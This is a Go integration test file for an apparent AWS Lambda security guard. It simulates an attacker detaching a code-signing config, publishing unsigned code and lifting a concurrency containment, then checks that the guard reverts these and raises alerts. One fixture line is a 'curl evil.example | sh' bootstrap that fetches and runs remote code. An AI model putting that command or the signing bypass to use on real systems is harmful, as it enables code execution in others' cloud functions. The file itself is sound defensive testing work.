package testbed

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/lambda"
	"github.com/aws/aws-sdk-go-v2/service/lambda/types"

	"github.com/selfguard/selfguard/infra/emulator"
	"github.com/selfguard/selfguard/infra/emulator/lambdaemu"
)

// The paths of docs/threat-model.md ("Untrusted code kept running"), end to
// end: the attacker's calls are recorded by the emulator, template.yaml's
// rules route them on the bus to the real lambda-guard bootstrap under the
// RIE, which judges them and alerts over SNS.

func startGuard(t *testing.T, ctx context.Context, params map[string]string) *Bed {
	t.Helper()
	p := GuardParameters("enforce")
	for k, v := range params {
		p[k] = v
	}
	bed, err := Start(ctx, Options{World: DemoWorld(), Parameters: p, Functions: []string{"LambdaGuardFunction"}, LogWriter: testWriter{t}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(bed.Close)
	return bed
}

func waitSettled(t *testing.T, ctx context.Context, l *lambda.Client, fn string) {
	t.Helper()
	w := lambda.NewFunctionUpdatedV2Waiter(l, func(o *lambda.FunctionUpdatedV2WaiterOptions) {
		o.MinDelay, o.MaxDelay = 50*time.Millisecond, 500*time.Millisecond
	})
	if err := w.Wait(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(fn)}, 30*time.Second); err != nil {
		t.Fatalf("%s did not settle: %v", fn, err)
	}
}

func alertsOf(alerts []Alert, rule, resource string) []Alert {
	var out []Alert
	for _, a := range alerts {
		if a.Attributes["rule"] == rule && a.Attributes["resource"] == resource {
			out = append(out, a)
		}
	}
	return out
}

func subjectsOf(alerts []Alert) string {
	var s []string
	for _, a := range alerts {
		s = append(s, a.Subject)
	}
	return strings.Join(s, "\n")
}

// TestACodeSigningGapIsCaughtEndToEnd is path 1 with DeleteUntrustedVersions:
// before any event is delivered, mallory detaches orders-api's code signing
// config, publishes unsigned code as a version, attaches the config again
// and deploys the signed release. Every event finds a good $LATEST; the
// publish event still names the unsigned version, which is deleted, and the
// detach is alerted from its own event.
func TestACodeSigningGapIsCaughtEndToEnd(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	bed := startGuard(t, ctx, map[string]string{"DeleteUntrustedVersions": "true"})
	m := bed.Lambda(emulator.ActorAttacker)
	if _, err := m.DeleteFunctionCodeSigningConfig(ctx, &lambda.DeleteFunctionCodeSigningConfigInput{FunctionName: aws.String(Orders)}); err != nil {
		t.Fatal(err)
	}
	evil := lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\ncurl evil.example | sh\n"})
	out, err := m.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(Orders), ZipFile: evil, Publish: true})
	if err != nil {
		t.Fatal(err)
	}
	waitSettled(t, ctx, m, Orders)
	if _, err := m.PutFunctionCodeSigningConfig(ctx, &lambda.PutFunctionCodeSigningConfigInput{
		FunctionName: aws.String(Orders), CodeSigningConfigArn: aws.String(EnforceCSCARN)}); err != nil {
		t.Fatal(err)
	}
	release, _, err := bed.Emulator.Lambda.Sign(ReleaseProfile, lambdaemu.ZipOf(map[string]string{"bootstrap": "#!/bin/sh\necho release 1\n"}))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := m.UpdateFunctionCode(ctx, &lambda.UpdateFunctionCodeInput{FunctionName: aws.String(Orders), ZipFile: release}); err != nil {
		t.Fatal(err)
	}
	waitSettled(t, ctx, m, Orders)
	if err := bed.Settle(ctx); err != nil {
		t.Fatal(err)
	}

	v := aws.ToString(out.Version)
	_, err = m.GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String(Orders), Qualifier: aws.String(v)})
	var nf *types.ResourceNotFoundException
	if !errors.As(err, &nf) {
		t.Errorf("version %s is still invocable (get: %v)", v, err)
	}
	alerts, err := bed.Alerts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	deleted := alertsOf(alerts, "lambda.untrusted-version", Orders+":"+v)
	if len(deleted) != 1 || deleted[0].Attributes["outcome"] != "done" || !strings.Contains(deleted[0].Message, "sha256") {
		t.Errorf("untrusted-version alerts %+v, want one, done, keeping the sha256; all:\n%s", deleted, subjectsOf(alerts))
	}
	detached := alertsOf(alerts, "lambda.csc-detached", Orders)
	if len(detached) != 1 || !strings.Contains(detached[0].Message, "by mallory") || !strings.Contains(detached[0].Message, "attached again since") {
		t.Errorf("csc-detached alerts %+v, want one naming mallory; all:\n%s", detached, subjectsOf(alerts))
	}
	if _, err := m.GetAlias(ctx, &lambda.GetAliasInput{FunctionName: aws.String(Orders), Name: aws.String("prod")}); err != nil {
		t.Errorf("prod alias: %v", err)
	}
}

// TestALiftedContainmentIsPutBackEndToEnd is path 3: the guard contains an
// unsigned function with nothing trusted to restore; mallory deletes the
// reserved concurrency. The event reaches the guard through template.yaml's
// rule, the guard's ledger (DynamoDB) says it contained the function, and
// it contains it again, naming who lifted it.
func TestALiftedContainmentIsPutBackEndToEnd(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	bed := startGuard(t, ctx, nil)
	if _, err := bed.Lambda(emulator.ActorDeveloper).CreateFunction(ctx, &lambda.CreateFunctionInput{
		FunctionName: aws.String("quick-fix"), Runtime: types.RuntimeProvidedal2023, Handler: aws.String("bootstrap"),
		Role: aws.String("arn:aws:iam::" + Account + ":role/quick-fix"), Code: &types.FunctionCode{ZipFile: lambdaemu.ZipOf(map[string]string{"bootstrap": "x"})},
	}); err != nil {
		t.Fatal(err)
	}
	if err := bed.Settle(ctx); err != nil {
		t.Fatal(err)
	}
	reserved := func() *int32 {
		out, err := bed.Lambda(emulator.ActorAdmin).GetFunction(ctx, &lambda.GetFunctionInput{FunctionName: aws.String("quick-fix")})
		if err != nil {
			t.Fatal(err)
		}
		if out.Concurrency == nil {
			return nil
		}
		return out.Concurrency.ReservedConcurrentExecutions
	}
	if r := reserved(); r == nil || *r != 0 {
		t.Fatalf("quick-fix not contained first: %v", r)
	}
	if _, err := bed.Alerts(ctx); err != nil { // the first containment's alerts
		t.Fatal(err)
	}
	if _, err := bed.Lambda(emulator.ActorAttacker).DeleteFunctionConcurrency(ctx, &lambda.DeleteFunctionConcurrencyInput{FunctionName: aws.String("quick-fix")}); err != nil {
		t.Fatal(err)
	}
	if err := bed.Settle(ctx); err != nil {
		t.Fatal(err)
	}
	if r := reserved(); r == nil || *r != 0 {
		t.Errorf("the containment mallory lifted stays lifted: reserved %v", r)
	}
	alerts, err := bed.Alerts(ctx)
	if err != nil {
		t.Fatal(err)
	}
	lifted := alertsOf(alerts, "lambda.containment-lifted", "quick-fix")
	if len(lifted) != 1 || lifted[0].Attributes["outcome"] != "done" || !strings.Contains(lifted[0].Subject, "mallory") {
		t.Errorf("containment-lifted alerts %+v, want one, done, naming mallory; all:\n%s", lifted, subjectsOf(alerts))
	}
	if len(alerts) != 1 {
		t.Errorf("%d alerts for one lift, want 1:\n%s", len(alerts), subjectsOf(alerts))
	}
}
